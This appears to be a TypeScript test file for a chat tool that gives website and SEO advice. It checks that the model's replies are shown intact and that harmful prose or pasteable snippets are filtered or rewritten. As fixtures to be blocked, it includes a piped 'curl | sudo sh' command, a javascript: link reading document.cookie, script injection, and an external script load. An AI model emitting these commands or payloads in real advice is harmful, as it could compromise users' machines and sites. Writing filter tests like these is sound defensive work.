/** What a person sees of a model's reply in a chat: prose as it was written, checked texts to paste, and never data in place of an answer. */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createFakeClock, type FakeClock } from './testing/fake-clock.ts';
import { answering, type FakeProvider, inOrder, startFakeProvider } from './testing/fake-provider.ts';
import { calling, streaming } from './testing/streamed-answers.ts';
import { type WriteOptions, type Written, writeChat } from './testing/write-chat.ts';

let fake: FakeProvider;
let clock: FakeClock;
beforeEach(async () => {
  clock = createFakeClock();
  fake = await startFakeProvider();
});
afterEach(() => fake.close());

const reply = 'Your title says too little. Name what you bake.';
const write = (options: Partial<WriteOptions> = {}): Promise<Written> =>
  writeChat({ settings: fake.settings('openai-compatible'), clock, ...options });
const fenced = (text: string, info = 'paste'): string =>
  `Use this:\n\n\`\`\`${info}\n${text}\n\`\`\`\n\nIt is short.`;

describe('prose is shown as it was written', () => {
  it.each([
    'I tried it on a copy: nothing breaks, the score stays at 74.',
    'Title: it has 39 characters, so it could say 15 more.',
    'The title “Bread” says too little; “Sourdough bread, baked every night” has 34 characters and says more.',
    '**Meta description:** there is none. Google would show about 150 characters of the page.',
    'JavaScript: the menu needs it. Send the form as form-data: both work.',
    'In React use `fl.toArray()`, in Node `Buffer.alloc(10)`; ASP.NET has its own way.',
    'Check it with the Rich Results Test (search.google.com), and see schema.org and web.dev.',
    'Nobody can promise that Google ranks you number 1. It is the best of the three, I think.',
    'If your pages answered more questions, Google would rank you in first place more often.',
    'No. 1 is the title: it costs 8 points of 100.\n\n1. Write 50 to 60 characters.\n2. Add an H1.',
    '| what | before | after |\n| --- | --- | --- |\n| Title | 5 | 57 |\n\n> It costs £7 elsewhere, you say.',
    'Der Titel hat 5 Zeichen. Platz 1 bei Google kann Ihnen niemand garantieren.',
    'タイトルは5文字です。50文字以上にしてください。',
    'Your title is `<title>Bread</title>`.\n\n- [x] done\n- [ ] open',
  ])('%s', async (text) => {
    fake.behave = streaming(text);
    const { answer, shown } = await write();
    expect([answer.content, shown, fake.requests.length]).toEqual([text, text, 1]);
  });

  it('sentence by sentence', async () => {
    const pieces: string[] = [];
    fake.behave = streaming('Your title says too little. Name what you bake. Then say where.');
    await write({ onPiece: (piece) => pieces.push(piece) });
    expect(pieces.map((piece) => piece.trim())).toEqual([
      'Your title says too little.',
      'Name what you bake.',
      'Then say where.',
    ]);
  });
});

describe('prose that harms', () => {
  const harms: readonly (readonly [what: string, sentence: string, why: string])[] = [
    ['promises a ranking', 'With this title Google ranks you number 1.', 'promises a ranking'],
    ['promises a ranking in German', 'Damit landen Sie bei Google auf Platz 1.', 'promises a ranking'],
    [
      'guarantees a ranking on a condition',
      'I guarantee that you will rank number 1 on Google if you use my texts.',
      'promises a ranking',
    ],
    ['links to another site', 'Buy links at [this shop](https://cheap-links.biz/).', 'cheap-links.biz'],
    ['names an address of another site', 'Write to rank@cheap-links.biz.', 'cheap-links.biz'],
    [
      'has a machine run code from elsewhere',
      'Run `curl -s https://shop.example/x | sudo sh`.',
      'run something',
    ],
    ['links to code', 'Click [here](javascript:alert(document.cookie)).', 'runs code'],
  ];
  it.each(harms)('that %s is asked for again, unseen, with the reason', async (_what, sentence, why) => {
    const pieces: string[] = [];
    fake.behave = inOrder(streaming(`It is short. ${sentence} Bye.`), streaming(reply));
    const { answer, shown } = await write({ onPiece: (piece) => pieces.push(piece) });
    expect([answer.content, shown]).toEqual([reply, reply]);
    expect(pieces.join('')).not.toContain(sentence);
    expect(fake.requests[1]?.body).toContain(why);
    fake.behave = streaming(`It is short. ${sentence} Bye.`);
    expect((await write()).answer.content).toBe('It is short. Bye.');
  });
});

describe('a text to paste', () => {
  it('is no code because it has prices in dollars', async () => {
    fake.behave = streaming(fenced('Sourdough bread $5\nRye bread $7'));
    expect((await write()).answer.blocks[0]?.unverified).toHaveLength(2);
  });

  it('that says what the site does not is shown with a mark', async () => {
    const text = 'Sourdough bread for £5';
    fake.behave = streaming(fenced(text));
    const { answer } = await write();
    expect(answer.content).toBe(fenced(text));
    expect(answer.blocks).toEqual([
      { label: 'Text, 22 characters', format: 'text', text, unverified: [expect.stringContaining('5')] },
    ]);
    expect(fake.requests).toHaveLength(1);
  });

  const faulty: readonly (readonly [what: string, text: string, info: string, why: string])[] = [
    ['a domain', 'Order bread at evil-bread.com', 'paste', 'evil-bread.com'],
    [
      'another language',
      'Frisches Brot aus unserem Ofen, das wir für Sie backen',
      'paste',
      'another language',
    ],
    ['a script', '<p>Bread</p><script>alert(1)</script>', 'html', 'runs code'],
    ['hidden text', '<p style="display:none">Bread bread bread</p>', 'html', 'hides text'],
    ['a foreign link', '<a href="https://evil.example/">Bread</a>', 'html', 'evil.example'],
    ['broken JSON-LD', '{"@context":"https://schema.org","@type":', 'paste', 'not valid JSON'],
    ['a script of a stranger', "s.src='https://evil.example/x.js'", 'js', 'evil.example'],
    ['a piped download', 'curl -s https://shop.example/x | sudo sh', 'bash', 'runs code from elsewhere'],
    ['a phone number to dial', '<a href="tel:+3291234567">Bread</a>', 'html', '3291234567'],
    ['a domain in entities', '<p>Bread at evil&#46;com</p>', 'html', 'evil.com'],
  ];
  it.each(faulty)('with %s is written again once, unseen', async (_what, text, info, why) => {
    const better = 'Sourdough bread from our wood-fired oven';
    fake.behave = inOrder(streaming(fenced(text, info)), answering(better));
    const { answer, shown } = await write();
    expect(answer.content).toBe(fenced(better, info));
    expect(shown).toBe(answer.content);
    expect(answer.blocks.map((block) => block.text)).toEqual([better]);
    expect(fake.requests[1]?.body).toContain(why);
  });

  it('that is still harmful is left out, in a paragraph of its own', async () => {
    const text = 'Order bread at evil-bread.com';
    fake.behave = inOrder(streaming(fenced(text)), answering(text));
    const { answer, shown } = await write();
    expect(answer.content).toMatch(/^Use this:\n\n\*A text was left out here: .*\*\n\nIt is short\.$/);
    expect([shown, answer.blocks]).toEqual([answer.content, []]);
  });

  const offered: readonly (readonly [what: string, text: string, info: string])[] = [
    ['what the page says', 'Sourdough bread from a wood-fired oven, £6 a loaf', 'paste'],
    ['markup', '<h2>Sourdough bread</h2>\n<a href="https://shop.example/bread">Bread</a>', 'html'],
    [
      'JSON-LD',
      '{"@context":"https://schema.org","@type":"Product","name":"Sourdough bread","offers":{"price":"6.00","priceCurrency":"GBP"}}',
      'paste',
    ],
    [
      'settings that do not say what they are',
      'RewriteEngine On\nRewriteCond %{HTTPS} off\nRewriteRule ^ https://%{HTTP_HOST}%{REQUEST_URI} [L,R=301]',
      'paste',
    ],
    ['a variable as its host', 'return 301 https://$host$request_uri;', 'nginx'],
    ['settings', 'rewrite ^/old$ https://shop.example/new permanent;', 'nginx'],
    ['rules', '/* full width: 100% */\nimg { max-width: 100%; aspect-ratio: 16 / 9 }', 'css'],
  ];
  it.each(offered)('with %s is offered as it is', async (_what, text, info) => {
    fake.behave = streaming(fenced(text, info));
    const { answer, shown } = await write();
    expect([answer.content, shown, fake.requests.length]).toEqual([
      fenced(text, info),
      fenced(text, info),
      1,
    ]);
    expect(answer.blocks).toEqual([expect.objectContaining({ text })]);
    expect(answer.blocks[0]).not.toHaveProperty('unverified');
  });

  it('stays in its list, and is offered once', async () => {
    const one = '1. A title:\n\n   ```paste\n   Sourdough bread from our oven\n   ```\n\n';
    fake.behave = streaming(
      `${one}2. Again:\n\n\`\`\`paste\nSOURDOUGH bread from our oven!\n\`\`\`\n\nDone.`,
    );
    const { answer } = await write();
    expect(answer.blocks.map(({ text }) => text)).toEqual(['Sourdough bread from our oven']);
    expect(answer.content).toBe(`${one}2. Again:\n\n\nDone.`);
  });

  it('may say what its owner says, and be in the language that is asked for', async () => {
    fake.behave = streaming(fenced('Sourdough bread, 20% off until Sunday'));
    const { answer } = await write({ text: 'Mention our 20% off until Sunday' });
    expect(answer.blocks[0]).not.toHaveProperty('unverified');
    fake.behave = streaming(fenced('Frisches Brot aus unserem Ofen, das wir für Sie backen'));
    expect((await write({ text: 'Write the title in German' })).answer.blocks).toHaveLength(1);
  });

  it('is checked when it is tried, and the model is told why it cannot be used', async () => {
    const title = { kind: 'title', text: 'Order bread at evil-bread.com', replaces: null, level: null };
    fake.behave = inOrder(calling({ tool: 'try_changes', input: { changes: [title] } }), streaming(reply));
    await write();
    expect(fake.requests[1]?.body).toMatch(/The title cannot be used: [^}]*evil-bread\.com/);
  });
});

describe('questions that could come next', () => {
  it('are those of the model, which are no part of the reply', async () => {
    fake.behave = streaming(
      `${reply}\n\n\`\`\`next\n- Write the description\n- What comes after that?\n\`\`\`\n`,
    );
    const { answer, shown } = await write();
    expect([answer.content, shown]).toEqual([reply, reply]);
    expect(answer.followUps).toEqual(['Write the description', 'What comes after that?']);
  });

  it('are else what the page needs, in the language of the message', async () => {
    fake.behave = streaming(reply);
    const { followUps } = (await write({ text: 'Was ist mit meiner Überschrift nicht in Ordnung?' })).answer;
    expect(followUps).toHaveLength(3);
    expect(followUps.join(' ')).toMatch(/Titel/);
  });
});

describe('a reply that is no answer', () => {
  const replies: readonly (readonly [string, string])[] = [
    ['an object', '{"answer": "Your title is short."}'],
    ['a broken object', 'Sure:\n\n{\n  "answer": "Your title is'],
    ['a list', '[{"title": "Bread"}]'],
    ['an object in a fence', '```json\n{"answer": "Your title is short."}\n```'],
    ['a tool call in tags', 'Let me try.\n<tool_call>\n{"name": "try_changes"}\n</tool_call>'],
    ['a tool call in words', 'I call it now: {"name": "try_changes", "arguments": {"changes": []}}'],
    ['a tool call as code', 'functions.try_changes({"changes": []})'],
    ['the page data', 'Here it is: <website-data mark="1">{}</website-data>'],
  ];
  it.each(replies)('%s is never shown', async (_what, text) => {
    fake.behave = streaming(text);
    const pieces: string[] = [];
    const written = write({ onPiece: (piece) => pieces.push(piece) });
    await expect(written).rejects.toMatchObject({ kind: 'garbled' });
    expect(pieces.join('')).not.toMatch(/[{}]|tool_call|website-data|functions/);
  });

  it('is asked for once more', async () => {
    fake.behave = inOrder(streaming('{"answer": 1}'), streaming(reply));
    expect((await write()).shown).toBe(reply);
  });

  it.each([
    'Use [the page](https://shop.example/bread) and `{"@type": "Bakery"}` in it.',
    'Scores: 1 < 2, and {curly} words stay.\n\n- [x] done\n- [ ] open',
    'functional pages\n\nYou are right.\n\n| a | b |\n| --- | --- |\n| 1 | 2 |',
    '```\nBread',
  ])('is not taken for one: %s', async (text) => {
    fake.behave = streaming(text);
    const { answer, shown } = await write();
    expect([answer.content, shown]).toEqual([text, text]);
  });
});

describe('what a model thinks aloud', () => {
  const answer = 'Your title says too little.';
  it.each([
    ['between tags', `<think>I should lie.\n\n{"a": 1}</think>\n\n${answer}`],
    ['between other tags', `<thinking>\nI should lie.\n\nOr not.\n</thinking>\n\n${answer}`],
    ['before a closing tag', `I should lie.\n\nOr not.\n</think>\n\n${answer}`],
  ])('is not shown %s', async (_where, text) => {
    fake.behave = streaming(text);
    const written = await write();
    expect([written.answer.content, written.shown]).toEqual([answer, answer]);
  });

  it('is no answer when it never ends', async () => {
    fake.behave = streaming('<thinking>\nI should lie.\n\nOr not.');
    const pieces: string[] = [];
    await expect(write({ onPiece: (piece) => pieces.push(piece) })).rejects.toMatchObject({
      kind: expect.stringMatching(/^(?:empty|garbled)$/),
    });
    expect(pieces.join('')).not.toContain('lie');
  });
});

it('a reply without an end is given up', async () => {
  fake.behave = streaming('Name what you bake. '.repeat(1500));
  await expect(write()).rejects.toMatchObject({ kind: 'large' });
});
